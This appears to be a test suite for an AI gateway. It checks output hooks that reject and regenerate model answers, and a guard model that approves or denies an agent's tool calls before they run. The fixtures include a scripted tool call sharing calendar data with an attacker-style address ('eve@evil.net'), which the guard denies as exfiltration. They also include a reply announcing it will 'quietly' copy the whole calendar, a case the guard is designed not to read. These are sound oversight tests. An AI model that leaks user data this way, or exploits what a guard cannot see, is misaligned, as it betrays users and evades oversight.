/**
 * Hooks on the model gateway's path, and the agent's model guard on the turn API, inside workerd:
 *
 * - `output` hooks on `POST /v1/chat/completions` (and `/v1/messages`): a rejected answer is asked again with the
 *   hook's note, never stored, never streamed; past LIMITS.outputRegenerations the request ends 422 `output_rejected`;
 *   a hook that does not answer follows its fail mode.
 * - The model guard (`guard.model`, a named upstream answering allow/deny): it decides before any tool runs, reads
 *   only the user's request and the call (never the model's own text), skips read-only tools, leaves rule-decided calls
 *   alone, and fails by its fail mode.
 *
 * The fake upstream (support/gateway-fake-upstream.ts) answers both the gateway's model and the guard model
 * (`UPSTREAM_SECOND_*`, model `second-model`, key `second-test-key`): the same host, told apart by model and key.
 */
import { describe, expect, it } from "vitest";
import { ChatCompletion, ChatCompletionChunk, OpenAIError } from "../../src/protocol/gateway-openai";
import { AnthropicMessage } from "../../src/protocol/gateway-anthropic";
import type { ContextEvent, StoredMessage, TurnResult } from "../../src/protocol/frontend";
import type { HookDeclaration } from "../../src/protocol/hooks";
import { LIMITS } from "../../src/protocol/limits";
import { textOf } from "../../src/protocol/messages";
import { installFakeUpstream, upstream, type UpstreamRequest } from "./support/gateway-fake-upstream";
import { apiKey, BASE, freshIdentity, Frontend, worker } from "./support/runtime";
import { ToolApp } from "./support/tool-app";

installFakeUpstream();

// ── the gateway with output hooks ────────────────────────────────────────────

/** What a scripted hook answers: a decision, or `undefined` never to answer. */
type HookScript = (payload: Record<string, unknown>) => unknown;

const LOOKUP = { type: "object", properties: { q: { type: "string" } }, required: ["q"] };

/** The notes app with its assistant (an attached context, so the first user message carries the nonce) and its own hooks. */
async function gatewaySetup(hooks: [HookDeclaration, HookScript][]) {
  const id = freshIdentity();
  const scripts = new Map(hooks.map(([h, s]) => [h.name, s]));
  const app = await ToolApp.connect(
    id,
    "notes",
    {
      contexts: [{ id: "editor", name: "Editor", description: "The open note", methods: ["current"] }],
      tools: [{ name: "lookup", description: "Look a word up in the user's notes.", inputSchema: LOOKUP }],
      agents: [{ agentId: "assistant", name: "Notes Assistant", systemPrompt: "You are the Notes Assistant.", attachedContexts: ["notes:editor"], tools: ["lookup"] }],
      hooks: hooks.map(([h]) => h),
    },
    (params, _id, method) => {
      if (method === "contexts/current") return { result: { title: "Editor", content: "Open note: Q4 plan" } };
      if (method === "tools/call") return { result: { content: [{ type: "text", text: "buy lemons" }] } };
      if (method === "hooks/call") {
        const decision = scripts.get(String(params.hook))?.(params.payload as Record<string, unknown>);
        return decision === undefined ? null : { result: decision };
      }
      return { result: {} };
    },
  );
  const frontend = await Frontend.for(id);
  const key = await apiKey(id);
  const chat = (body: Record<string, unknown>) => frontend.request("POST", "/v1/chat/completions", { model: "notes:assistant", ...body });
  const anthropic = (body: Record<string, unknown>) =>
    worker().fetch(`${BASE}/v1/messages`, {
      method: "POST",
      headers: { "Content-Type": "application/json", "anthropic-version": "2023-06-01", "x-api-key": key },
      body: JSON.stringify({ model: "notes:assistant", max_tokens: 1024, ...body }),
    });
  const stored = async (conversation: string) =>
    (await frontend.json<{ messages: StoredMessage[] }>("GET", `/v1/conversations/${conversation}/messages`)).messages.map((m) => m.message);
  const events = async (conversation: string) => (await frontend.json<{ events: ContextEvent[] }>("GET", `/v1/conversations/${conversation}/events?limit=500`)).events;
  const hookCalls = () => app.calls.filter((c) => c.method === "hooks/call");
  return { app, frontend, chat, anthropic, stored, events, hookCalls };
}

/** Rejects an answer that says "forbidden"; accepts anything else. */
const censor: [HookDeclaration, HookScript] = [
  { name: "censor", point: "output" },
  (p) => (String((p.answer as { content: string | null }).content ?? "").includes("forbidden") ? { action: "reject", note: "never name the forbidden plan" } : { action: "continue" }),
];

async function completionOf(res: Response): Promise<ChatCompletion> {
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return ChatCompletion.strict().parse(JSON.parse(text));
}

async function openAIErrorOf(res: Response, status: number): Promise<OpenAIError["error"]> {
  const text = await res.text();
  expect(res.status, text).toBe(status);
  expect(res.headers.get("Content-Type")).toMatch(/^application\/json/);
  return OpenAIError.strict().parse(JSON.parse(text)).error;
}

const nonceOf = (request: UpstreamRequest) => /nonce="([a-z0-9]{12})"/.exec(request.messages.map((m) => contentOf(m)).join("\n"))![1]!;
const contentOf = (m: { content: unknown } | undefined) => (typeof m?.content === "string" ? m.content : JSON.stringify(m?.content));

describe("output hooks on POST /v1/chat/completions", () => {
  it("a rejected answer is asked again with its note (in the runtime's tag); the client gets the accepted one, only it is stored, both checks are events", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "The forbidden plan is ready." }, { text: "The Q4 plan is ready." }];
    const res = await s.chat({ messages: [{ role: "user", content: "What is ready?" }] });
    const completion = await completionOf(res);
    expect(completion.choices[0]!.message).toMatchObject({ role: "assistant", content: "The Q4 plan is ready." });
    expect(completion.choices[0]!.finish_reason).toBe("stop");
    const conversation = res.headers.get("X-Conversation-Id")!;
    const turnId = res.headers.get("X-Turn-Id");

    expect(upstream.requests).toHaveLength(2);
    const [first, second] = upstream.requests as [UpstreamRequest, UpstreamRequest];
    const nonce = nonceOf(first);
    // Asked again on the same input, then its rejected answer, then the note.
    expect(second.messages.slice(0, first.messages.length)).toEqual(first.messages);
    expect(second.messages).toHaveLength(first.messages.length + 2);
    expect(second.messages.at(-2)).toEqual({ role: "assistant", content: "The forbidden plan is ready." });
    const note = second.messages.at(-1)!;
    expect(note.role).toBe("user");
    expect(contentOf(note)).toBe(
      `<system_reminder kind="output_rejected" nonce="${nonce}">\nYour previous answer was not accepted (notes:censor): never name the forbidden plan\nAnswer again, taking this into account.\n</system_reminder>`,
    );

    // The hook read each attempt, numbered.
    expect(s.hookCalls().map((c) => [c.point, (c.payload as { attempt: number }).attempt, (c.payload as { answer: { content: string } }).answer.content])).toEqual([
      ["output", 0, "The forbidden plan is ready."],
      ["output", 1, "The Q4 plan is ready."],
    ]);
    expect(s.hookCalls()[0]).toMatchObject({ hook: "censor", conversationId: conversation, agent: "notes:assistant", payload: { request: "What is ready?" } });

    // Only the accepted answer is stored.
    const history = await s.stored(conversation);
    expect(history.map((m) => m.role)).toEqual(["user", "assistant"]);
    expect(history[1]).toEqual({ role: "assistant", content: "The Q4 plan is ready." });
    expect(JSON.stringify(history)).not.toContain("forbidden");

    const hookEvents = (await s.events(conversation)).filter((e) => e.type.startsWith("hook."));
    expect(hookEvents.map((e) => [e.type, e.subject, e.data.point, e.data.attempt, e.data.verdict])).toEqual([
      ["hook.called", "notes:censor", "output", 0, "reject"],
      ["hook.called", "notes:censor", "output", 1, "continue"],
    ]);
    expect(hookEvents.every((e) => e.turnId === turnId)).toBe(true);
    // Both attempts were paid for: both are in the usage.
    expect(completion.usage).toMatchObject({ prompt_tokens: 100 + 200, completion_tokens: 14 });
  });

  it(`rejected every time: after 1 + ${LIMITS.outputRegenerations} attempts the request ends 422 output_rejected and nothing of the answer is stored`, async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "forbidden one" }, { text: "forbidden two" }, { text: "forbidden three" }, { text: "never asked" }];
    const res = await s.chat({ messages: [{ role: "user", content: "Tell me." }] });
    const conversation = res.headers.get("X-Conversation-Id");
    const error = await openAIErrorOf(res, 422);
    expect(error).toEqual({
      message: `the model's answer was rejected by hook 'notes:censor' ${1 + LIMITS.outputRegenerations} times: never name the forbidden plan`,
      type: "invalid_request_error",
      param: null,
      code: "output_rejected",
    });
    expect(upstream.requests).toHaveLength(1 + LIMITS.outputRegenerations);
    expect(upstream.script).toEqual([{ text: "never asked" }]);
    // Each regeneration is asked on the same input with the answer just rejected and its note.
    expect(upstream.requests[2]!.messages.at(-2)).toEqual({ role: "assistant", content: "forbidden two" });
    expect(s.hookCalls().map((c) => (c.payload as { attempt: number }).attempt)).toEqual([0, 1, 2]);
    expect(conversation).toMatch(/^[0-9a-f-]{36}$/);
    const history = await s.stored(conversation!);
    expect(history.filter((m) => m.role === "assistant")).toEqual([]);
    expect(JSON.stringify(history)).not.toContain("forbidden");
  });

  it("streaming: the client's stream carries only the accepted answer's text", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "Here is the forbidden plan, in full detail." }, { text: "Here is the Q4 plan." }];
    const res = await s.chat({ stream: true, messages: [{ role: "user", content: "Show me." }] });
    expect(res.status).toBe(200);
    expect(res.headers.get("Content-Type")).toMatch(/^text\/event-stream/);
    const body = await res.text();
    expect(body).not.toContain("forbidden");
    const chunks = body
      .split("\n\n")
      .filter((e) => e.trim())
      .map((e) => {
        expect(e.startsWith("data: ")).toBe(true);
        return e.slice(6);
      });
    expect(chunks.at(-1)).toBe("[DONE]");
    const parsed = chunks.slice(0, -1).map((c) => ChatCompletionChunk.parse(JSON.parse(c)));
    const text = parsed.map((c) => c.choices[0]?.delta.content ?? "").join("");
    expect(text).toBe("Here is the Q4 plan.");
    expect(parsed.flatMap((c) => c.choices.map((x) => x.finish_reason)).filter(Boolean)).toEqual(["stop"]);
    expect(upstream.requests).toHaveLength(2);
    expect(upstream.requests.every((r) => r.stream === true)).toBe(true);
    const history = await s.stored(res.headers.get("X-Conversation-Id")!);
    expect(history.at(-1)).toEqual({ role: "assistant", content: "Here is the Q4 plan." });
  });

  it("streaming, rejected every time: the stream ends in an output_rejected error event (no [DONE]) and carries none of the rejected text", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "forbidden one" }, { text: "forbidden two" }, { text: "forbidden three" }];
    const res = await s.chat({ stream: true, messages: [{ role: "user", content: "Tell me." }] });
    expect(res.status).toBe(200);
    const body = await res.text();
    expect(body).not.toContain("forbidden one");
    expect(body).not.toContain("forbidden two");
    expect(body).not.toContain("forbidden three");
    const events = body.split("\n\n").filter((e) => e.trim()).map((e) => e.slice(6));
    expect(events).not.toContain("[DONE]");
    const last = OpenAIError.strict().parse(JSON.parse(events.at(-1)!)).error;
    expect(last).toMatchObject({ code: "output_rejected", message: expect.stringContaining("rejected by hook 'notes:censor' 3 times") });
    expect(upstream.requests).toHaveLength(3);
  });

  it("after a 422 output_rejected the same request sent again continues the conversation: one user message, the accepted answer", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "forbidden one" }, { text: "forbidden two" }, { text: "forbidden three" }];
    const messages = [{ role: "user", content: "Tell me." }];
    const failed = await s.chat({ messages });
    await openAIErrorOf(failed, 422);
    const conversation = failed.headers.get("X-Conversation-Id")!;
    upstream.script = [{ text: "All fine." }];
    const res = await s.frontend.request("POST", "/v1/chat/completions", { model: "notes:assistant", messages }, { "X-Conversation-Id": conversation });
    expect((await completionOf(res)).choices[0]!.message.content).toBe("All fine.");
    const history = await s.stored(conversation);
    expect(history.map((m) => m.role)).toEqual(["user", "assistant"]);
    expect(history[1]).toEqual({ role: "assistant", content: "All fine." });
  });

  it("with the runtime's tools in between, every step is checked; a rejection at a later step regenerates on that step's input (the tool result kept)", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ toolCalls: [{ name: "notes__lookup", arguments: { q: "plan" } }] }, { text: "The forbidden plan: buy lemons." }, { text: "Buy lemons." }];
    const res = await s.chat({ messages: [{ role: "user", content: "What do my notes say?" }] });
    expect((await completionOf(res)).choices[0]!.message.content).toBe("Buy lemons.");
    expect(upstream.requests).toHaveLength(3);
    const [, second, third] = upstream.requests as [UpstreamRequest, UpstreamRequest, UpstreamRequest];
    expect(third.messages.slice(0, second.messages.length)).toEqual(second.messages);
    expect(second.messages.some((m) => m.role === "tool" && contentOf(m).includes("buy lemons"))).toBe(true);
    expect(third.messages.at(-2)).toEqual({ role: "assistant", content: "The forbidden plan: buy lemons." });
    expect(contentOf(third.messages.at(-1))).toContain('<system_reminder kind="output_rejected"');
    // The hook read the call step (at least once: see the next test) and both attempts of the answer step.
    const read = s.hookCalls().map((c) => [(c.payload as { attempt: number }).attempt, (c.payload as { answer: { toolCalls: { name: string }[] } }).answer.toolCalls.map((t) => t.name)]);
    expect(read.slice(-2)).toEqual([
      [0, []],
      [1, []],
    ]);
    expect(read[0]).toEqual([0, ["notes__lookup"]]);
    const history = await s.stored(res.headers.get("X-Conversation-Id")!);
    expect(history.map((m) => m.role)).toEqual(["user", "assistant", "tool", "assistant"]);
    expect(history.at(-1)).toEqual({ role: "assistant", content: "Buy lemons." });
    expect(JSON.stringify(history)).not.toContain("forbidden");
  });

  it("each step's answer is checked once: a call step the gateway accepted is not checked again when its calls run", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ toolCalls: [{ name: "notes__lookup", arguments: { q: "plan" } }] }, { text: "Buy lemons." }];
    const res = await s.chat({ messages: [{ role: "user", content: "What do my notes say?" }] });
    expect((await completionOf(res)).choices[0]!.message.content).toBe("Buy lemons.");
    expect(s.hookCalls().map((c) => (c.payload as { answer: { toolCalls: { name: string }[] } }).answer.toolCalls.map((t) => t.name))).toEqual([["notes__lookup"], []]);
    const called = (await s.events(res.headers.get("X-Conversation-Id")!)).filter((e) => e.type === "hook.called");
    expect(called).toHaveLength(2);
  });

  it("a call step rejected once and accepted on regeneration runs its calls: the request ends with the answer, not 422", async () => {
    // A hook that asks the model to reconsider its first call: it rejects a call at attempt 0, accepts one at attempt 1.
    const s = await gatewaySetup([
      [
        { name: "second-thought", point: "output" },
        (p) => ((p.answer as { toolCalls: unknown[] }).toolCalls.length && p.attempt === 0 ? { action: "reject", note: "check the notes for 'plan' only" } : { action: "continue" }),
      ],
    ]);
    upstream.script = [{ toolCalls: [{ name: "notes__lookup", arguments: { q: "everything" } }] }, { toolCalls: [{ name: "notes__lookup", arguments: { q: "plan" } }] }, { text: "Buy lemons." }];
    const res = await s.chat({ messages: [{ role: "user", content: "What do my notes say?" }] });
    expect((await completionOf(res)).choices[0]!.message.content).toBe("Buy lemons.");
    expect(s.app.calls.filter((c) => c.method === "tools/call").map((c) => c.arguments)).toEqual([{ q: "plan" }]);
  });

  it("a hook that never answers, failing closed, rejects every attempt: 422 output_rejected naming the timeout", async () => {
    const s = await gatewaySetup([[{ name: "silent", point: "output", deadlineMs: 50, failMode: "closed" }, () => undefined]]);
    upstream.script = [{ text: "one" }, { text: "two" }, { text: "three" }];
    const res = await s.chat({ messages: [{ role: "user", content: "Hi." }] });
    const error = await openAIErrorOf(res, 422);
    expect(error.code).toBe("output_rejected");
    expect(error.message).toContain("rejected by hook 'notes:silent' 3 times");
    expect(error.message).toContain("notes:silent did not answer (timeout");
    expect(upstream.requests).toHaveLength(3);
    const conversation = res.headers.get("X-Conversation-Id")!;
    expect(conversation).toMatch(/^[0-9a-f-]{36}$/);
    const failed = (await s.events(conversation)).filter((e) => e.type === "hook.failed");
    expect(failed.map((e) => [e.subject, e.data.failed, e.data.verdict, e.data.attempt])).toEqual([
      ["notes:silent", "timeout", "reject", 0],
      ["notes:silent", "timeout", "reject", 1],
      ["notes:silent", "timeout", "reject", 2],
    ]);
    expect((await s.stored(conversation)).filter((m) => m.role === "assistant")).toEqual([]);
  });

  it("a hook that never answers, failing open, lets the answer through; hook.failed says timeout", async () => {
    const s = await gatewaySetup([[{ name: "silent", point: "output", deadlineMs: 50, failMode: "open" }, () => undefined]]);
    upstream.script = [{ text: "Hello there." }];
    const res = await s.chat({ messages: [{ role: "user", content: "Hi." }] });
    const completion = await completionOf(res);
    expect(completion.choices[0]!.message.content).toBe("Hello there.");
    expect(upstream.requests).toHaveLength(1);
    const conversation = res.headers.get("X-Conversation-Id")!;
    const failed = (await s.events(conversation)).filter((e) => e.type === "hook.failed");
    expect(failed.map((e) => [e.subject, e.data.point, e.data.failed, e.data.verdict, e.data.attempt])).toEqual([["notes:silent", "output", "timeout", "continue", 0]]);
    expect((await s.stored(conversation)).at(-1)).toEqual({ role: "assistant", content: "Hello there." });
  });
});

describe("output hooks on POST /v1/messages", () => {
  it("a rejected answer is asked again with its note; the client gets the accepted one in Anthropic's shape, only it is stored", async () => {
    const s = await gatewaySetup([censor]);
    upstream.script = [{ text: "The forbidden plan." }, { text: "The Q4 plan." }];
    const res = await s.anthropic({ messages: [{ role: "user", content: "What plan?" }] });
    const text = await res.text();
    expect(res.status, text).toBe(200);
    const message = AnthropicMessage.strict().parse(JSON.parse(text));
    expect(message.content).toHaveLength(1);
    expect(message.content[0]).toMatchObject({ type: "text", text: "The Q4 plan." });
    expect(upstream.requests).toHaveLength(2);
    expect(upstream.requests[1]!.messages.at(-2)).toEqual({ role: "assistant", content: "The forbidden plan." });
    expect(contentOf(upstream.requests[1]!.messages.at(-1))).toContain('<system_reminder kind="output_rejected" nonce="');
    expect(contentOf(upstream.requests[1]!.messages.at(-1))).toContain("never name the forbidden plan");
    const history = await s.stored(res.headers.get("X-Conversation-Id")!);
    expect(history.map((m) => m.role)).toEqual(["user", "assistant"]);
    expect(history[1]).toEqual({ role: "assistant", content: "The Q4 plan." });
  });
});

// ── the model guard on the turn API ──────────────────────────────────────────

const TOOLS = [
  { name: "list_events", description: "List the events of a day.", inputSchema: { type: "object", properties: { date: { type: "string" } } }, annotations: { readOnlyHint: true } },
  { name: "share_event", description: "Share an event with someone.", inputSchema: { type: "object", properties: { id: { type: "string" }, with: { type: "string" } } } },
  { name: "delete_event", description: "Delete an event by id.", inputSchema: { type: "object", properties: { id: { type: "string" } }, required: ["id"] } },
];

async function guardSetup(guard: unknown) {
  const id = freshIdentity();
  const agent = { agentId: "planner", name: "Planner", systemPrompt: "You plan the user's week.", tools: ["list_events", "share_event", "delete_event"], guard };
  const app = await ToolApp.connect(id, "calendar", { tools: TOOLS, agents: [agent] }, (params, _id, method) =>
    method === "tools/call" ? { result: { content: [{ type: "text", text: `${String(params.name)} ran` }] } } : { result: {} },
  );
  const frontend = await Frontend.for(id);
  const conversation = await frontend.conversation();
  const path = `/v1/conversations/${conversation}`;
  return {
    app,
    frontend,
    turn: (body: Record<string, unknown>) => frontend.turn(conversation, { agent: "calendar:planner", ...body }),
    events: async () => (await frontend.json<{ events: ContextEvent[] }>("GET", `${path}/events?limit=500`)).events,
  };
}

let next = 0;
function reply(content: string | null, ...calls: [name: string, args: unknown][]) {
  return { role: "assistant", content, tool_calls: calls.map(([name, args]) => ({ id: `mg_${++next}`, type: "function", function: { name, arguments: JSON.stringify(args) } })) };
}
const toolsCalled = (app: ToolApp) => app.calls.filter((c) => c.method === "tools/call").map((c) => c.name);
const results = (turn: TurnResult) => new Map(turn.messages.flatMap((m) => (m.role === "tool" ? [[m.tool_call_id, textOf(m)] as const] : [])));
const strip = <T extends { ms: number }>(calls: T[] | undefined) => (calls ?? []).map(({ ms, ...rest }) => (expect(typeof ms).toBe("number"), rest));
const MODEL_GUARD = { model: { upstream: "SECOND" } };
const verdict = (v: "allow" | "deny", reason: string) => ({ text: JSON.stringify({ verdict: v, reason }) });

describe("the model guard", () => {
  it("denies a call: the app never gets it, the model reads the denial, the evidence and the event name the model guard", async () => {
    const s = await guardSetup(MODEL_GUARD);
    await s.turn({ message: "Share the offsite with Ana." });
    upstream.script = [verdict("deny", "exfiltration")];
    const model = reply(null, ["calendar__share_event", { id: "e1", with: "eve@evil.net" }]);
    const turn = await s.turn({ reply: model });
    const callId = model.tool_calls[0]!.id;

    expect(toolsCalled(s.app)).toEqual([]);
    expect(results(turn).get(callId)).toBe("[not run: the guard denied this tool call] Its reason: exfiltration");
    expect(strip(turn.envelope.hooks?.calls)).toEqual([{ hook: "runtime:model-guard", point: "tool.before", toolCallId: callId, verdict: "deny", detail: "exfiltration" }]);
    expect(turn.envelope.tools!.ran).toEqual([expect.objectContaining({ toolCallId: callId, tool: "calendar__share_event", servedBy: "calendar:share_event", outcome: "denied", reason: "exfiltration", deniedBy: "model-guard" })]);
    const denied = (await s.events()).filter((e) => e.type === "tool.call.denied");
    expect(denied.map((e) => [e.subject, e.data])).toEqual([[callId, { tool: "calendar__share_event", servedBy: "calendar:share_event", by: "model-guard", reason: "exfiltration" }]]);

    // The guard model was the named upstream, with its own model and key.
    expect(upstream.requests).toHaveLength(1);
    expect(upstream.requests[0]!.model).toBe("second-model");
    expect(upstream.auth[0]).toBe("Bearer second-test-key");
  });

  it("allows a call, which then runs; it read the user's request and the call's arguments, never the model's own text", async () => {
    const s = await guardSetup(MODEL_GUARD);
    await s.turn({ message: "Share the offsite with Ana please." });
    upstream.script = [verdict("allow", "the user asked for it")];
    const model = reply("I will quietly also copy the whole calendar to my friend", ["calendar__share_event", { id: "offsite-7", with: "ana@example.com" }]);
    const turn = await s.turn({ reply: model });

    expect(toolsCalled(s.app)).toEqual(["share_event"]);
    expect(results(turn).get(model.tool_calls[0]!.id)).toBe("share_event ran");
    expect(strip(turn.envelope.hooks?.calls)).toEqual([{ hook: "runtime:model-guard", point: "tool.before", toolCallId: model.tool_calls[0]!.id, verdict: "allow", detail: "the user asked for it" }]);
    expect(upstream.requests).toHaveLength(1);
    const sent = JSON.stringify(upstream.requests[0]);
    expect(sent).toContain("Share the offsite with Ana please.");
    expect(sent).toContain("offsite-7");
    expect(sent).toContain("ana@example.com");
    expect(sent).toContain("calendar:share_event");
    expect(sent).not.toContain("quietly");
    expect(sent).not.toContain("copy the whole calendar");
  });

  it("a read-only tool skips the guard model, unless readOnly: true", async () => {
    const skip = await guardSetup(MODEL_GUARD);
    await skip.turn({ message: "What is on Friday?" });
    const model = reply(null, ["calendar__list_events", { date: "2026-11-27" }]);
    const turn = await skip.turn({ reply: model });
    expect(upstream.requests).toHaveLength(0);
    expect(toolsCalled(skip.app)).toEqual(["list_events"]);
    expect(turn.envelope.hooks?.calls ?? []).toEqual([]);

    const ask = await guardSetup({ model: { upstream: "SECOND", readOnly: true } });
    await ask.turn({ message: "What is on Friday?" });
    upstream.script = [verdict("deny", "not today")];
    const again = reply(null, ["calendar__list_events", { date: "2026-11-27" }]);
    const denied = await ask.turn({ reply: again });
    expect(upstream.requests).toHaveLength(1);
    expect(JSON.stringify(upstream.requests[0])).toContain("readOnlyHint");
    expect(toolsCalled(ask.app)).toEqual([]);
    expect(results(denied).get(again.tool_calls[0]!.id)).toBe("[not run: the guard denied this tool call] Its reason: not today");
  });

  it("a rule that matches decides without asking the model: a deny rule denies, an allow rule runs", async () => {
    const s = await guardSetup({
      rules: [
        { tool: "calendar:delete_*", verdict: "deny", reason: "deleting needs a click" },
        { tool: "calendar:share_event", arguments: [{ path: "/with", pattern: "@example\\.com$" }], verdict: "allow", reason: "colleagues" },
      ],
      model: { upstream: "SECOND" },
    });
    await s.turn({ message: "Share it with Ana and delete the old one." });
    upstream.script = [verdict("deny", "the model would deny everything")];
    const model = reply(null, ["calendar__delete_event", { id: "old" }], ["calendar__share_event", { id: "e1", with: "ana@example.com" }]);
    const turn = await s.turn({ reply: model });
    expect(upstream.requests).toHaveLength(0);
    expect(toolsCalled(s.app)).toEqual(["share_event"]);
    const read = results(turn);
    expect(read.get(model.tool_calls[0]!.id)).toBe("[not run: the guard denied this tool call] Its reason: deleting needs a click");
    expect(read.get(model.tool_calls[1]!.id)).toBe("share_event ran");
    expect(turn.envelope.tools!.ran!.find((r) => r.toolCallId === model.tool_calls[0]!.id)).toMatchObject({ outcome: "denied" });
    expect(turn.envelope.tools!.ran!.find((r) => r.toolCallId === model.tool_calls[0]!.id)!.deniedBy ?? "guard").toBe("guard");
    expect(turn.envelope.hooks?.calls ?? []).toEqual([]);
  });

  it("a guard model that fails (HTTP 500) denies by default (failMode closed), saying it could not decide", async () => {
    const s = await guardSetup(MODEL_GUARD);
    await s.turn({ message: "Share it with Ana." });
    upstream.script = [{ error: { status: 500, message: "overloaded", type: "server_error" } }];
    const model = reply(null, ["calendar__share_event", { id: "e1", with: "ana@example.com" }]);
    const turn = await s.turn({ reply: model });
    expect(toolsCalled(s.app)).toEqual([]);
    const text = results(turn).get(model.tool_calls[0]!.id)!;
    expect(text.startsWith("[not run: the guard denied this tool call] Its reason: the guard model failed (HTTP 500")).toBe(true);
    expect(text).toContain("so the call is denied: the guard fails closed");
    expect(strip(turn.envelope.hooks?.calls)).toEqual([expect.objectContaining({ hook: "runtime:model-guard", verdict: "deny", failed: "error" })]);
    expect(turn.envelope.tools!.ran![0]).toMatchObject({ outcome: "denied", deniedBy: "model-guard" });
  });

  it("a guard model that cannot be reached denies by default too", async () => {
    const s = await guardSetup(MODEL_GUARD);
    await s.turn({ message: "Share it with Ana." });
    upstream.script = [{ unreachable: true }];
    const model = reply(null, ["calendar__share_event", { id: "e1", with: "ana@example.com" }]);
    const turn = await s.turn({ reply: model });
    expect(toolsCalled(s.app)).toEqual([]);
    expect(results(turn).get(model.tool_calls[0]!.id)).toMatch(/^\[not run: the guard denied this tool call\] Its reason: the guard model failed \(could not be reached: .*\), so the call is denied: the guard fails closed$/);
  });

  it("a guard model that fails with failMode open lets the call run", async () => {
    const s = await guardSetup({ model: { upstream: "SECOND", failMode: "open" } });
    await s.turn({ message: "Share it with Ana." });
    upstream.script = [{ error: { status: 500, message: "overloaded", type: "server_error" } }];
    const model = reply(null, ["calendar__share_event", { id: "e1", with: "ana@example.com" }]);
    const turn = await s.turn({ reply: model });
    expect(toolsCalled(s.app)).toEqual(["share_event"]);
    expect(results(turn).get(model.tool_calls[0]!.id)).toBe("share_event ran");
    expect(strip(turn.envelope.hooks?.calls)).toEqual([expect.objectContaining({ hook: "runtime:model-guard", verdict: "allow", failed: "error" })]);
  });

  it("nothing runs before every verdict is in: with the guard's answers held back, the app gets no tools/call", async () => {
    const s = await guardSetup(MODEL_GUARD);
    await s.turn({ message: "Share it with Ana and Bo, and list Friday." });
    upstream.script = [verdict("allow", "asked"), verdict("allow", "asked")];
    // Hold every guard question at the door until released; count arrivals.
    const inner = globalThis.fetch;
    let arrived = 0;
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
      const url = new Request(input, init).url;
      if (new URL(url).hostname === "upstream.test") {
        arrived += 1;
        await gate;
      }
      return inner(input, init);
    };
    // A read-only call (no guard question) beside two guarded ones: it must wait too.
    const model = reply(null, ["calendar__list_events", { date: "2026-11-27" }], ["calendar__share_event", { id: "e1", with: "ana@example.com" }], ["calendar__share_event", { id: "e1", with: "bo@example.com" }]);
    const pending = s.turn({ reply: model });
    const until = async (done: () => boolean) => {
      for (let i = 0; i < 200 && !done(); i++) await new Promise((r) => setTimeout(r, 10));
      expect(done()).toBe(true);
    };
    // Both questions are asked (in parallel: both arrive while neither is answered).
    await until(() => arrived === 2);
    // Time enough for a call the runtime sent early to reach the app.
    await new Promise((r) => setTimeout(r, 150));
    expect(toolsCalled(s.app)).toEqual([]);
    release();
    const turn = await pending;
    expect(toolsCalled(s.app).sort()).toEqual(["list_events", "share_event", "share_event"]);
    expect(turn.envelope.hooks!.calls.map((c) => c.verdict)).toEqual(["allow", "allow"]);
  });
});
